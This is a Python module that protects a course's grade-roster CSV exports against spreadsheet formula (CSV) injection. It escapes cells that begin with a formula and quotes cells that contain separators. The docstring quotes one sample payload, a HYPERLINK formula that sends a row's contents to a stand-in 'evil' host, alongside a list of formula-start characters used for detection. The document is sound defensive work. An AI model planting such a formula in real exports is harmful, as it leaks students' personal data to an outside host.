"""CSV cells a spreadsheet reads as text or numbers, never as formulas (CSV injection).

Every grade export is opened in a spreadsheet sooner or later (LibreOffice Calc, Excel, Google Sheets, the
LMS's preview), and its text cells come from people the course does not trust: a student's name, e-mail or id
in the roster. A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one)
is a formula to a spreadsheet: ``=HYPERLINK("http://evil/?"&A2, "click")`` leaks the row, DDE formulas run
programs in old Excel. The rule (OWASP, "CSV Injection"):

* :func:`inert` prefixes such a cell with a single quote ``'``, which every spreadsheet shows as text. The
  test is made on the cell without leading spaces too, and on the full-width forms ``＝＋－＠`` that some
  locales' spreadsheets read as the ASCII ones. A real number (``-1.5``: an optional minus, digits, an
  optional decimal part) stays as it is, so score columns stay numeric where the LMS needs numbers.
* A spreadsheet in a semicolon locale splits a comma-separated line at every ``;``, quotes or not: a name
  like ``x;=cmd()`` becomes a cell ``=cmd()``. So a separator any spreadsheet may guess (``,`` ``;`` tab
  ``|``) that is followed by a formula start (after spaces or quotes) gets the ``'`` after it:
  ``x;'=cmd()``.
* :func:`write_csv` quotes every cell that holds such a separator, a quote or a line break (the comma
  reading keeps it one cell); empty cells stay unquoted (Canvas reads an empty cell as "no score").

tests/test_spreadsheet.py opens every export in LibreOffice Calc (headless, comma and semicolon
separators) and reads the result with openpyxl: no cell is a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from pathlib import Path

__all__ = ["FORMULA_STARTS", "inert", "csv_line", "write_csv"]

#: what makes a spreadsheet read a cell as a formula when the cell begins with it
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
_QUOTE_IF = re.compile(r'[,;\t|"\r\n]')
_LEAD = ' \u00a0\u3000"'  # what may stand before a formula start and still leave it one
_INNER = re.compile("([,;\t|])(?=[" + _LEAD + "]*[" + re.escape("".join(FORMULA_STARTS)) + "])")


def inert(value: object) -> str:
    """``value`` as a cell no spreadsheet evaluates: ``'=1+1`` for ``=1+1``, ``x;'=1+1`` for ``x;=1+1``;
    ``-1.5`` and ``Lee`` unchanged."""
    text = "" if value is None else str(value)
    if _NUMBER.fullmatch(text):
        return text
    text = _INNER.sub(r"\1'", text)
    if text.startswith(FORMULA_STARTS) or text.lstrip(_LEAD).startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_line(cells: Sequence[object]) -> str:
    """One CSV record (``\\r\\n``-terminated, as Python's csv module writes) of inert cells, quoted where a
    spreadsheet could split them."""
    out = []
    for cell in cells:
        text = inert(cell)
        if _QUOTE_IF.search(text) or text != text.strip():
            text = '"' + text.replace('"', '""') + '"'
        out.append(text)
    return ",".join(out) + "\r\n"


def write_csv(path: Path, rows: Iterable[Sequence[object]]) -> None:
    """Write ``rows`` to ``path`` (UTF-8) as inert CSV; Python's ``csv.reader`` reads back the inert cells."""
    with open(path, "w", newline="", encoding="utf-8") as f:
        for row in rows:
            f.write(csv_line(row))
